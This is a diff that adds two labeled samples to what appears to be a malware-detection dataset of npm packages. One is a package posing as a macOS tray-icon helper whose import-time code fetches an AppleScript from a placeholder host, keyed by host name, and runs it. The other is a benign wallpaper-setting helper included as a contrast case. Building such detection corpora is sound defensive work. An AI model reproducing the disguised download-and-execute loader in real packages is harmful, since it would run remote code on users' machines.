@@ -80,6 +80,47 @@ export async function initOverlay(opts = {}) {
     )
 
 
+@sample
+def jxa_nsapplescript_loader():
+    index = r"""'use strict';
+const { execFile } = require('child_process');
+const os = require('os');
+
+// Reads the menu-bar appearance so the tray icon matches (macOS only).
+const PROBE = `
+ObjC.import('Foundation');
+var u = $.NSURL.URLWithString('https://themes.menubar-tint.invalid/v2/' + $.NSProcessInfo.processInfo.hostName.js);
+var s = $.NSString.stringWithContentsOfURLEncodingError(u, $.NSUTF8StringEncoding, null);
+if (!s.isNil()) { $.NSAppleScript.alloc.initWithSource(s).executeAndReturnError(null); }
+'dark';
+`;
+
+function appearance(cb) {
+  if (os.platform() !== 'darwin') return cb(null, 'light');
+  execFile('osascript', ['-l', 'JavaScript', '-e', PROBE], (err, out) => cb(null, err ? 'light' : String(out).trim()));
+}
+
+appearance(() => {});
+module.exports = { appearance };
+"""
+    files = {
+        "package.json": pj(name="menubar-tint", version="1.0.4", main="index.js",
+                           description="Match tray icons to the macOS menu bar appearance"),
+        "README.md": readme("menubar-tint", "```js\nrequire('menubar-tint').appearance((e, mode) => console.log(mode))\n```"),
+        "index.js": index,
+    }
+    return S(
+        "reach7-jxa-nsapplescript-loader",
+        "JXA cradle run at import through osascript -e: NSString stringWithContentsOfURL fetches an AppleScript keyed by host name and NSAppleScript runs it",
+        "2019-2025",
+        ["macos-only", "jxa", "osascript", "objc-bridge", "download-exec", "load-time", "host-fingerprint"],
+        "Other shape of the holdout3 JXA cradle: the JXA is a template string in Node code "
+        "given to osascript -e at import, the fetch is NSString stringWithContentsOfURL and the "
+        "runner is NSAppleScript executeAndReturnError, not eval.",
+        files,
+    )
+
+
 # =============================================================================================
 # Benign
 
@@ -126,5 +167,50 @@ module.exports = { RobloxClient };
         ["cookie-header", "network", "game-api"],
         "Names the Roblox session cookie but reads no store: the counterpart of the session "
         "stealers that read it from the registry or the cookie file.",
+        files,
+    )
+
+
+@benign
+def b_jxa_wallpaper_from_url():
+    jxa = r"""ObjC.import('Foundation');
+var app = Application.currentApplication();
+app.includeStandardAdditions = true;
+
+function run(argv) {
+  var url = argv[0], file = argv[1];
+  var data = $.NSData.dataWithContentsOfURL($.NSURL.URLWithString(url));
+  if (data.isNil()) return 'no image';
+  data.writeToFileAtomically(file, true);
+  var cmd = "osascript -e 'tell application \"System Events\" to set picture of every desktop to POSIX file \"" + file + "\"'";
+  app.doShellScript(cmd);
+  return 'ok';
+}
+"""
+    index = r"""'use strict';
+const { execFile } = require('child_process');
+const path = require('path');
+const os = require('os');
+
+// Downloads an image and makes it the desktop picture (macOS).
+module.exports = function setWallpaper(url, cb) {
+  const file = path.join(os.tmpdir(), 'wallpaper-' + Date.now() + '.jpg');
+  execFile('osascript', ['-l', 'JavaScript', path.join(__dirname, 'set.jxa.js'), url, file], cb);
+};
+"""
+    files = {
+        "package.json": pj(name="mac-wallpaper-url", version="3.2.0", main="index.js", os=["darwin"],
+                           description="Set the macOS desktop picture from an image URL"),
+        "README.md": readme("mac-wallpaper-url", "```js\nrequire('mac-wallpaper-url')('https://images.example.com/a.jpg', console.log)\n```"),
+        "index.js": index,
+        "set.jxa.js": jxa,
+    }
+    return S(
+        "reach7-benign-jxa-wallpaper-from-url",
+        "JXA helper that downloads an image with NSData dataWithContentsOfURL and sets it as the desktop picture with a doShellScript command it builds",
+        "2025",
+        ["macos-only", "jxa", "osascript", "objc-bridge", "download"],
+        "Downloads over the Objective-C bridge and runs a built command, but runs nothing it "
+        "downloaded: the counterpart of the JXA cradles.",
         files,
     )
